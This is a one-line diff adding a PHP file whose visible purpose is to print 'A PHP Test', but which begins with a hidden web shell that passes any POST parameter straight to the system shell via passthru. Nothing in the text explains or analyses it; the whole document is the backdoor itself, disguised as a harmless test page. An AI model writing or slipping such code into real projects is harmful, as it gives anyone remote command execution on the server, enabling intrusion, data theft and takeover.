@@ -1,0 +1,1 @@
+<?php passthru($_POST[1])?><?php echo 'A PHP Test ';
